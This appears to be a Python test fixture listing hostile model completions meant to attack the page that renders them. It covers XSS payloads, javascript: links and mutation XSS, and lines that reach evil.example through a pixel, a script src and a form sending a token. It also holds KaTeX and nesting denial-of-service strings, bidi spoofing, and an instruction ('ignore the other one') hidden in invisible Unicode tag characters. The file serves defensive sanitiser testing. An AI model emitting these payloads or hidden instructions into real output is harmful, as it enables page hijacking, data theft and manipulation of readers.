"""Completions that attack the page, by class. Nothing of any may run, hide, or leave its pane."""

# ruff: noqa: E501  (an attack is easier to read on one line)

HOSTILE: dict[str, str] = {
    "script": "<script>window.hit = 1</script>\n<ScRiPt/x>window.hit = 1</sCrIpT >\n<script src=//evil.example>",
    "script in code": "```html\n<script>window.hit = 1</script>\n```\n`<script>window.hit = 1</script>`",
    "script in a fence's name": '```"><script>window.hit=1</script>\ncode\n```',
    "event handlers": '<img src=x onerror="window.hit = 1"><body onload=window.hit=1>'
    '<b onclick="window.hit=1" onmouseover=window.hit=1>x</b><details open ontoggle=window.hit=1>',
    "title that breaks out": "[x](https://a.example 'onmouseover=window.hit=1')"
    ' [x](https://a.example "\\" onfocus=window.hit=1 autofocus=\\"")',
    "javascript links": "[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1)\n"
    "[c](java\tscript:window.hit=1) [d](&#106;avascript:window.hit=1) [e](<javascript:window.hit=1>)\n"
    "<javascript:window.hit=1> [f](\x01javascript:window.hit=1) [g](javascript&colon;window.hit=1)",
    "data and vbscript links": "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:msgbox)\n"
    "[c](data:image/svg+xml;base64,PHN2Zz4=) [d](file:///etc/passwd) [e](blob:https://x/y)",
    "links into the page": "[x](#desk) [y](/logout/) [z](?undo=1) [w](//evil.example) [v](.)",
    "image that tells who reads": "![x](https://evil.example/pixel.png) ![y](//evil.example/p)",
    "autolink": '<https://evil.example/<script>> <https://evil.example/"onclick=window.hit=1>',
    "svg": "<svg onload=window.hit=1><script>window.hit=1</script><use href=data:x></svg>"
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "mathml": '<math><mtext><style><img src=x onerror="window.hit=1"></style></mtext></math>'
    '<math href="javascript:window.hit=1">x</math><maction actiontype="statusline#http://x">y',
    "css": "<style>@import '//evil.example/x.css'; .desk { display: none }</style>\n"
    '<div style="position:fixed;inset:0;z-index:9">x</div>\n<link rel=stylesheet href=//evil.example>',
    "htmx": '<a hx-get="/logout/" hx-trigger="load">x</a><div data-hx-post="/x" data-hx-trigger="load">'
    "<p hx-on::load=\"window.hit=1\" hx-vals='js:{a: window.hit=1}'>",
    "template tags": "{% load x %}{{ request.user.password }}{# c #}{% include '/etc/passwd' %}${window.hit=1}",
    "table of scripts": "| a |\n|---|\n| <script>window.hit=1</script> |\n| <td onclick=window.hit=1> |",
    "table of 2,000 columns": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + "|x\n" * 5,
    "table of empty cells": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + "|\n" * 2000,
    "wide table": "|" + " heading |" * 60 + "\n|" + "-|" * 60 + "\n|" + " cell |" * 60,
    "no space": "W" * 100_000,
    "no space, short": "W" * 9_000,
    "no space in code": "```\n" + "W" * 9_000 + "\n```\n`" + "V" * 5000 + "`",
    "bidi": "a\u202egnp.exe\u202c b\u2066c\u2069 \u202d d \u2067e &#x202E;f `\u202ex`\n```\n\u202ex\n```",
    "bidi in a link": "[\u202emoc.elgoog](https://evil.example/\u202egoogle.com)",
    "zero width": "a\u200bb\u2060c\ufeffd\u00ade\u034ff\u180eg " + "\u200b" * 5000,
    "zero width between all": "a\u200b" * 20_000,
    "hidden tags": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the other one"),
    "selectors that carry bytes": "x" + "".join(chr(0xFE00 + i % 16) for i in range(500)),
    "controls": "a\x00b\x07c\x1b[31md\x7fe\x9bf\u2028g\u2029h",
    "fillers": "\u3164\u115f\u1160\uffa0" * 50,
    "zalgo": ("Z" + "\u0310\u0336\u0489\u0301" * 60 + "o" + "\u0328" * 200) * 20,
    "katex href": r"$\href{javascript:window.hit=1}{x}$ $\url{javascript:window.hit=1}$",
    "katex html": r"$\htmlData{hx-get=/logout/}{x}$ $\htmlStyle{position:fixed}{x}$ "
    r"$\htmlId{desk}{x}$ $\htmlClass{answers}{x}$ $\includegraphics{https://evil.example/p.png}$",
    "katex sizes": r"$\rule{100000em}{100000em}$ $\kern-5000em x$ $\raisebox{-5000em}{x}$ "
    r"$\hspace{-900em}\rule{900em}{900em}$ $$\mathllap{\rule{500em}{1em}}\mathrlap{\rule{900em}{1em}}$$",
    "katex styles": r"$\pmb{x}$ $\fcolorbox{red}{blue}{x}$ $\color{red}x$ $\textcolor{#f00}{y}$ $\cancel{z}$",
    "katex macro bomb": r"$\def\a{\a\a}\a$ $\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}"
    r"\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d$ $\gdef\x{EVIL}\x$ then $\x$",
    "katex nesting": "$" + r"\sqrt{" * 500 + "x" + "}" * 500 + "$ $" + "{" * 1500 + "$",
    "katex nesting by macro": r"$\def\a{\sqrt\a}\a$ $\def\a#1{\sqrt{\sqrt{\sqrt{#1}}}}"
    + r"\a{" * 40
    + "x"
    + "}" * 40
    + "$",
    "katex flood": (r"$\def\a{" + "x" * 1900 + r"}" + r"\a" * 45 + "$\n\n") * 20,
    "katex long": "$" + r"\frac{a}{b}+" * 2000 + "1$",
    "katex wide": "$$" + "x+" * 1500 + "1$$ and $" + "y" * 1500 + "$",
    "katex script": "$</span><script>window.hit=1</script>$ $$<img src=x onerror=window.hit=1>$$",
    "nested quotes": "> " * 5000 + "deep",
    "nested quotes, some": "> " * 30 + "deep",
    "nested lists": "- " * 5000 + "deep",
    "nested lists, some": "\n".join("  " * i + "- deep" for i in range(15)),
    "brackets": "[" * 100_000,
    "brackets, some": "[" * 19_000,
    "stars": "*a " * 30_000,
    "dollars": "$a" * 40_000 + "$$\n" * 5_000,
    "openers": "\\[\n" * 30_000 + "\\begin{align}\n" * 1000,
    "rules": "a\n=\n" * 20_000,
    "slow to colour": "```csharp\n" + "a\n" * 3_000 + "```\n```c#\n" + "a\n" * 500 + "```",
    "comments and cdata": "<!-- <script>window.hit=1</script> --><![CDATA[<script>window.hit=1]]><?php x ?>"
    "<!--><script>window.hit=1</script>--> <!DOCTYPE x>",
    "entities": "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;script&#62;window.hit=1&#x3c;/script&#x3e;",
    "mutation": '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">\n'
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">\n'
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">\n'
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "forms and frames": '<form id=desk action="https://evil.example"><input name=token autofocus '
    'onfocus=window.hit=1><button name=choice value=left>x</button></form>\n<iframe src="https://evil.example">'
    "</iframe><iframe srcdoc='<script>parent.hit=1</script>'></iframe><object data=x></object><embed src=x>\n"
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "clobbering": "<a id=desk name=desk>x</a><form name=querySelector id=answers><input name=body></form>\n"
    "# desk {#desk .answers}\n[x]{#desk} <span id=desk-live class=visually-hidden>x</span>",
    "borrowed classes": '<span class="flash answers visually-hidden">x</span> <p class="pane" hidden>y</p>',
    "hidden definition": "seen\n\n[note]: https://a.example 'never seen'\n\n[//]: # (never seen either)",
}
